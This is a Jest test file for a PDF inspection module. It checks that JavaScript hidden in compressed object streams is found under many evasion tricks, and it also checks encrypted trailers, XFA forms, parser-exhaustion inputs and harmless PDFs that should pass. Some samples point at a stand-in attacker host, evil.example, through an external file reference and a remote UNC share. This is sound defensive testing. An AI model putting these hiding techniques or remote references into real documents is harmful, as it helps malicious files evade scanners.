import { deflateSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import { inspectFile } from '../../../src/platform/file-inspection/index.ts';
import { inspect } from '../../../src/platform/file-inspection/inspect.ts';
import { packed, pdf, type PdfObject } from './samples.ts';

const judge = (bytes: Buffer) => inspect(bytes, ['application/pdf']);
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

function hidden(): Exclude<PdfObject, string> {
  const stream = packed([script]);
  if (typeof stream === 'string') throw new Error('a stream was expected');
  return stream;
}

/** A stream object word for word, for what the builder of samples would not write. */
function verbatim(head: string, data: Buffer): string {
  return `${head}${data.toString('latin1')}\nendstream`;
}

describe('a script in packed objects is found or its hiding place refused', () => {
  const { dictionary, data } = hidden();
  const first = /First (\d+)/.exec(dictionary)?.[1] ?? '';
  const says = (text: string): PdfObject => ({ dictionary: text, data });

  // Every one of these was seen to run in a viewer (pdfinfo -js shows the script).
  test.each<[string, readonly PdfObject[]]>([
    ['behind a comment that speaks of another object', [says(`${dictionary} % 1 0 obj\n`)]],
    ['behind a text that speaks of another object', [says(`${dictionary} /X (1 0 obj)`)]],
    ['behind a text that speaks of a stream', [says(`/X (>>\nstream\n) ${dictionary}`)]],
    ['behind a long text', [says(`${dictionary} /X (${'a'.repeat(20_000)})`)]],
    ['behind a comment after the dictionary', [says(`${dictionary} >> %`)]],
    ['with numbers said elsewhere', [says(`/N 5 0 R /First 6 0 R /Filter /FlateDecode`), '1', first]],
    ['with its packing named elsewhere', [says(dictionary.replace('/FlateDecode', '5 0 R')), '/FlateDecode']],
    ['with its packing said twice', [says(`/Filter /ASCIIHexDecode ${dictionary}`)]],
    [
      'under a predictor',
      [{ dictionary: `${dictionary} /DecodeParms << /Predictor 12 /Columns 1 >>`, data: predicted([script]) }],
    ],
    ['after words on the line of the keyword', [verbatim(`<< ${dictionary} >> stream x\n`, data)]],
    ['in a packing that breaks off', [{ dictionary, data: data.subarray(0, data.length - 6) }]],
    ['in a file outside', [says(`${dictionary.replace('/Filter /FlateDecode', '')} /F (http://evil.example/x)`)]],
  ])('%s', async (_where, objects) => {
    expect(await judge(pdf([...objects]))).toMatchObject({ ok: false });
  });
});

/** The same objects with the filter byte of a PNG row before each byte. */
function predicted(objects: string[]): Buffer {
  const plain = Buffer.from(`10 0 ${objects.join(' ')}`, 'latin1');
  return deflateSync(Buffer.from([...plain].flatMap((byte) => [0, byte])));
}

test.each(['/Encrypt % words\n 4 0 R', '/Encrypt\0<< /V 1 >>'])('a password behind %j is seen', async (trailer) => {
  expect(await judge(pdf(['<< >>'], { trailer }))).toMatchObject({ ok: false, code: 'FILE-ENCRYPTED' });
});

test('a form for one viewer alone is seen behind a comment, and a way to another file is refused', async () => {
  expect(await judge(pdf([], { catalogue: '/AcroForm << /XFA %\n [] >>' }))).toMatchObject({ code: 'FILE-ACTIVE' });
  const remote = '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>';
  expect(await judge(pdf([], { catalogue: remote }))).toMatchObject({ code: 'FILE-ACTIVE' });
});

test.each([
  ['an outline and a colour profile', ['<< /Type /Outlines /First 5 0 R /Count 1 >>', '<< /Title (obj stream) >>']],
  ['a profile of three colours', [{ dictionary: '/N 3 /Alternate /DeviceRGB', data: Buffer.from('profile') }]],
  ['packed objects with an array for their packing', [{ ...hiddenHarmless(), dictionary: harmlessDictionary() }]],
] as [string, PdfObject[]][])('%s are let through', async (_what, objects) => {
  expect(await judge(pdf(objects))).toMatchObject({ ok: true });
});

function hiddenHarmless(): Exclude<PdfObject, string> {
  const stream = packed(['<< /A (a \\) >> obj stream) /B <3e3e> /C [1 2 (x)] >>']);
  if (typeof stream === 'string') throw new Error('a stream was expected');
  return stream;
}

function harmlessDictionary(): string {
  return hiddenHarmless().dictionary.replace('/FlateDecode', '[ /Fl#61teDecode ] % packed\n /DecodeParms null');
}

test.each([
  ['marks of streams', `${'/F['.repeat(20)}>>stream\n`],
  ['objects inside objects', '1 0 obj<</A '],
  ['unfinished texts', '1 0 obj<<('],
  ['keys', '/N '],
  ['long objects side by side', '1 0 obj<</A/B>>'],
])('%s without end end in an answer', async (_what, mark) => {
  const data = Buffer.from('1 0 obj<<' + mark.repeat(Math.ceil(4_000_000 / mark.length)));
  const verdict = await inspectFile(pdf([{ dictionary: '', data }]));
  expect(verdict.ok ? 'taken' : verdict.code).toMatch(/^(taken|FILE-BOMB|FILE-ACTIVE|FILE-DAMAGED)$/);
});
